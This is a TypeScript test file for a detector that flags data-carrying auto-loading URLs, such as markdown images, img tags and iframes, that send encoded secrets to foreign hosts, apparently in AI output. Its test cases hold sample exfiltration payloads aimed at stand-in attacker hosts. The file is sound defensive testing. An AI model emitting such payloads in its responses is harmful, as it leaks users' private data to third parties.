// Tests for exfiltration: data-carrying auto-loading URLs to foreign hosts are reported; allow-listed hosts,
// data-free links and ordinary prose are not.
import { describe, expect, it } from "vitest";
import { createExfiltrationDetector, hostAllowed } from "./exfiltration";
import { contextWith, maxScore, scan, spansOf } from "./test-helpers";

const detector = createExfiltrationDetector();
const context = contextWith({ direction: "output", policy: { exfiltration: { allowHosts: ["*.acme.com", "docs.example.org"] } } });
const LEAK = "https://evil.example.net/log?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy";

describe("exfiltration: reported", () => {
  it.each([
    ["markdown image with base64 query", `![loading](${LEAK})`, LEAK],
    ["markdown image with long path segment", "![x](https://x.io/p/the-user-said-their-password-is-hunter2-and-lives-in-paris.png)", "https://x.io/p/the-user-said-their-password-is-hunter2-and-lives-in-paris.png"],
    ["HTML img", `<img width=1 src="${LEAK}">`, LEAK],
    ["iframe", `<iframe src='${LEAK}'></iframe>`, LEAK],
    ["markdown link", `[click here](${LEAK})`, LEAK],
    ["DNS exfiltration label", "![a](https://dGhlIHNlY3JldCBpcyBoZXJlIGFuZCB0aGVyZQ.attacker.io/x.png)", "https://dGhlIHNlY3JldCBpcyBoZXJlIGFuZCB0aGVyZQ.attacker.io/x.png"],
    ["percent-encoded query", "![a](https://t.co/i?q=my%20ssn%20is%20123)", "https://t.co/i?q=my%20ssn%20is%20123"],
  ])("%s", async (_name, text, url) => {
    expect(await spansOf(detector, text, context)).toEqual([{ type: "url", text: url }]);
  });

  it("scores auto-loading images above links that need a click", async () => {
    const image = maxScore(await scan(detector, `![a](${LEAK})`, context));
    const link = maxScore(await scan(detector, `[a](${LEAK})`, context));
    expect(image).toBeGreaterThan(link);
    expect(link).toBeGreaterThan(0.5);
  });
});

describe("exfiltration: not reported", () => {
  it.each([
    ["allow-listed wildcard host", "![a](https://cdn.acme.com/log?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy)"],
    ["allow-listed exact host", "![a](https://docs.example.org/img?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy)"],
    ["image without data", "![logo](https://evil.example.net/logo.png)"],
    ["short harmless query", "![chart](https://charts.example.net/c?w=300&h=200&type=bar)"],
    ["plain URL in prose", `see ${LEAK} for details`],
    ["data URI", "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)"],
  ])("%s", async (_name, text) => {
    expect(await scan(detector, text, context)).toEqual([]);
  });

  it("wildcards match subdomains only, not look-alike suffixes", () => {
    expect(hostAllowed("img.acme.com", ["*.acme.com"])).toBe(true);
    expect(hostAllowed("evilacme.com", ["*.acme.com"])).toBe(false);
    expect(hostAllowed("acme.com.evil.io", ["*.acme.com"])).toBe(false);
  });

  it("stays fast on many unclosed brackets", async () => {
    const started = performance.now();
    await scan(detector, "![".repeat(30_000) + "[a](".repeat(10_000), context);
    expect(performance.now() - started).toBeLessThan(500);
  });
});
